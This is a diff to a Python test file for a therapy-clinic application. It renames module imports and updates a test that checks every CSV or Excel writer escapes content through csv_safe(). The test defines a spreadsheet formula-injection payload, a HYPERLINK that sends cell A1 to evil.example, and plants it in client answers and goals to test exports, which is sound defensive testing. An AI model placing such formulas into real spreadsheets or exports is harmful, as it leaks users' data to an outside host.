@@ -18,12 +18,12 @@ from tests.clinic.people import a_held_session, answers
 from tests.clinic.rights_steps import code_for, inside
 
 from accord.errors import BadTable
-from accord_clinic.actions import alliance, corrections
+from accord_clinic.actions import agreements, corrections
+from accord_clinic.exports.client_copy import as_csv
 from accord_clinic.imports import ratings, spreadsheet
 from accord_clinic.imports.column_map import BadMapping, read_map
-from accord_clinic.instruments import shelf
 from accord_clinic.models import Client
-from accord_clinic.queries.copies import as_csv
+from accord_clinic.questionnaires.shelf import shelf
 from accord_clinic.upkeep import backups
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"Invoice")'
@@ -71,7 +71,7 @@ class TestOut:
         for reader in ("therapist", "raise", "outside"):
             said = answers("client", t1=2, words=FORMULA, reader=reader)
             a_held_session(people.dyad, client=said, therapist=answers("therapist", words=FORMULA))
-        alliance.propose(people.dyad, "goal", FORMULA, "therapist", by=people.ben)
+        agreements.propose(people.dyad, "goal", FORMULA, "therapist", by=people.ben)
         corrections.ask(people.dyad, FORMULA, by=ana)
         browser = inside(ana)
         packed = browser.post("/mine/rights/copy/", {"code": code_for(browser, "copy"), "as": "zip"})
@@ -95,7 +95,7 @@ class TestOut:
         source = Path(settings.PACKAGE)
         writers = re.compile(r"csv\.(?:writer|DictWriter)|write_csv|write_excel|openpyxl|xlsxwriter")
         found = {str(path.relative_to(source)) for path in source.rglob("*.py") if writers.search(path.read_text())}
-        assert found == {"queries/copies.py", "study_file.py"}
+        assert found == {"exports/client_copy.py", "exports/study_file.py"}
         assert all("csv_safe(" in (source / name).read_text() for name in found)
 
 
